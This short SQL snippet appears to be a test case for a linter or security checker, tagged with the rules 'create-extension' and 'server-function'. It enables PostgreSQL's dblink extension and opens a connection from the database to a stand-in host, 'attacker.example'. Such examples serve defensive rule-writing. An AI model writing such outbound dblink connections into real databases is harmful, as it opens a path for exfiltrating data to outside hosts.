-- rules: create-extension, server-function
CREATE EXTENSION dblink;
SELECT * FROM dblink('host=attacker.example', 'SELECT 1') AS t(x int);
